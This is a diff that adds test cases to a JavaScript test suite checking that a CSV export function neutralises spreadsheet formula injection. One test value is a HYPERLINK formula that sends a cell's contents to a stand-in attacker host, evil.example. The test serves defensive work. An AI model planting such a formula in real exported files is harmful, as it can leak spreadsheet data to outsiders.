@@ -23,4 +23,18 @@ describe('toCsv', () => {
     const csv = await toCsv([{ value }], [{ header: 'Value', value: (r) => r.value }]);
     expect(csv.split('\r\n')[1]).toBe(`"'${value}"`);
   });
+
+  it.each([
+    ['a title with a line break', '=HYPERLINK("http://evil.example/?x="&A1,"Click")\n'],
+    ['a multi-line description', '=1+1\nmore'],
+    ['a location ending in a line break', '@SUM(1+1)\n'],
+    ['a cell starting with a tab', '\t=1+1\nmore'],
+    ['a cell starting with a carriage return', '\r=1+1'],
+  ])('neutralises %s', async (_name, value) => {
+    const csv = await toCsv([{ value }], [{ header: 'Value', value: (r) => r.value }]);
+    const cell = csv.slice('Value\r\n'.length);
+    // Quoted (it holds a line break or starts with a special character) and starting with an apostrophe.
+    expect(cell.startsWith(`"'`)).toBe(true);
+    expect(cell).toBe(`"'${value.replace(/"/g, '""')}"`);
+  });
 });
